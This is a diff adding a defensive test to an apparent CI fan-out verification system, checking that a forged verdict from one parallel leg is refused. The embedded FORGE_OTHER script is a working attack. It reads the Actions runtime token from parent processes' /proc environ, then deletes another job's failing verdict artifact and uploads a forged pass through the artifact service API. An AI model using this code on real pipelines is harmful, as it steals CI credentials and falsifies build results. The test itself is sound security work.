@@ -415,3 +415,119 @@ describe('fan-out: a candidate that rewrites history', () => {
     3 * MINUTE,
   )
 })
+
+/**
+ * A check that replaces ANOTHER leg's verdict: run in leg step-1 (before its own check), on a runner
+ * without isolation, it reads the run's ACTIONS_RUNTIME_TOKEN from its controller's /proc, waits for leg
+ * step-2 to upload its (failing) verdict, deletes that artifact and uploads, under the same name, a
+ * passing verdict for step-2 (the artifact service's own calls: DeleteArtifact, CreateArtifact, the blob,
+ * FinalizeArtifact). Step-2's job concluded success; only its log knows which file it handed on.
+ */
+const FORGE_OTHER = `import { execFileSync } from 'node:child_process'
+import { readFileSync, writeFileSync, mkdtempSync, appendFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { tmpdir } from 'node:os'
+const target = process.argv[2]
+const signals = process.env.E2E_SIGNAL_DIR
+const say = (line) => appendFileSync(join(signals, 'forge-other.log'), line + '\\n')
+const plan = JSON.parse(readFileSync(join(process.env.RUNNER_TEMP, 'loop-fan-out', 'plan', 'plan.json'), 'utf8'))
+if (plan.baseline) process.exit(0)
+let token, url, pid = process.pid
+for (let d = 0; d < 30 && pid > 1 && !(token && url); d++) {
+  try {
+    for (const e of readFileSync('/proc/' + pid + '/environ', 'latin1').split('\\0')) {
+      const i = e.indexOf('='); const n = e.slice(0, i)
+      if (n === 'ACTIONS_RUNTIME_TOKEN') token = e.slice(i + 1)
+      if (n === 'ACTIONS_RESULTS_URL') url = e.slice(i + 1)
+    }
+    pid = Number(readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1])
+  } catch { break }
+}
+say('token ' + Boolean(token) + ' url ' + url)
+const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString())
+const [, runId, jobId] = /Actions\\.Results:([^:\\s]+):([^:\\s]+)/.exec(claims.scp)
+const call = async (method, body) => {
+  const r = await fetch(url + 'twirp/github.actions.results.api.v1.ArtifactService/' + method, {
+    method: 'POST', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
+    body: JSON.stringify({ workflow_run_backend_id: runId, workflow_job_run_backend_id: jobId, ...body }) })
+  const j = await r.json().catch(() => ({}))
+  if (!r.ok) throw new Error(method + ' ' + r.status + ' ' + JSON.stringify(j))
+  return j
+}
+const name = 'loop-verdict-' + target + '.attempt-' + (process.env.GITHUB_RUN_ATTEMPT || '1')
+const until = Date.now() + 25000
+let found = false
+while (Date.now() < until) {
+  const list = await call('ListArtifacts', { name_filter: name })
+  if ((list.artifacts ?? []).length > 0) { found = true; break }
+  await new Promise((r) => setTimeout(r, 100))
+}
+say('victim artifact seen ' + found)
+if (!found) process.exit(0)
+await call('DeleteArtifact', { name })
+const dir = mkdtempSync(join(tmpdir(), 'forge-'))
+const output = 'step reached (forged)\\n'
+const file = join(dir, 'loop-verdict-' + target + '.json')
+writeFileSync(file, JSON.stringify({ version: 2, loopId: plan.loopId, iteration: plan.iteration, candidate: plan.candidate,
+  leg: target, check: target, run: { exitCode: 0, signal: null, timedOut: false, durationMs: 5, output, totalBytes: output.length, truncated: false } }) + '\\n')
+execFileSync('zip', ['-q', '-0', '-j', join(dir, 'a.zip'), file])
+const zip = readFileSync(join(dir, 'a.zip'))
+const created = await call('CreateArtifact', { name, version: 4 })
+const put = await fetch(created.signed_upload_url, { method: 'PUT', headers: { 'x-ms-blob-type': 'BlockBlob', 'content-type': 'application/zip' }, body: zip })
+say('put ' + put.status)
+await call('FinalizeArtifact', { name, size: String(zip.length) })
+say('replaced ' + name)
+`
+
+describe('fan-out: one leg replaces another leg’s verdict', () => {
+  it(
+    'a check that deletes leg step-2’s failing verdict artifact and uploads a pass in its name (runtime token from /proc): decide refuses it, step-2 is no verdict, and the loop is not COMPLETE',
+    async () => {
+      const noIsolation = runnerWithoutIsolation()
+      const s = await start({
+        steps: 2,
+        maxIterations: 1,
+        files: { 'tools/forge-other.mjs': FORGE_OTHER },
+        config: (text) =>
+          text.replace('run: node tools/check.mjs 1', 'run: node tools/forge-other.mjs step-2; node tools/check.mjs 1'),
+        sandbox: { extraEnv: { PATH: noIsolation.path } },
+      })
+      const { sandbox } = s
+      await sandbox.dispatch({ 'loop-id': 'crossleg' })
+      const jobs = await sandbox.waitForIdle(3 * MINUTE)
+      rmSync(noIsolation.dir, { recursive: true, force: true })
+      const why = describeJobs(jobs)
+      // The attack ran: in iteration 1 (the baseline round's leg leaves it alone), leg step-1's check
+      // found the runtime token, saw step-2's artifact, and put its own in its place.
+      const forger = readFileSync(join(s.signals, 'forge-other.log'), 'utf8').trim().split('\n')
+      expect(forger, why).toEqual([
+        expect.stringMatching(/^token true url http/),
+        'victim artifact seen true',
+        'put 201',
+        'replaced loop-verdict-step-2.attempt-1',
+      ])
+      // Every leg's job concluded success: the jobs alone cannot tell the forgery.
+      expect(jobsNamed(jobs, 'verify').map((job) => job.conclusion)).toEqual([
+        'success',
+        'success',
+        'success',
+        'success',
+      ])
+      // Decide took step-1's own verdict and refused the one in step-2's name: not the file step-2's job
+      // named in its own log. Step-2 is an error, never a pass, and the loop stops at its cap, not COMPLETE.
+      expect(jobsNamed(jobs, 'decide').map((job) => job.outputs.status)).toEqual(['running', 'capped'])
+      const state = await savedState(sandbox.git.bareDir, 'crossleg')
+      expect(state.lastVerification?.results.map((r) => [r.name, r.verdict, r.exitCode])).toEqual([
+        ['step-1', 'pass', 0],
+        ['step-2', 'error', null],
+      ])
+      const comment = botComments(sandbox)[0]?.body ?? ''
+      expect(comment).toMatch(
+        /no verdict from step-2: its verdict came from an artifact, and is not the file its verify job handed on \(its log names sha256 [0-9a-f]{12}, the file's is [0-9a-f]{12}\): not trusted/,
+      )
+      expect(comment).toMatch(/### 🛑 Stopped at the iteration cap · `crossleg`/)
+      expectFaithful(s)
+    },
+    4 * MINUTE,
+  )
+})
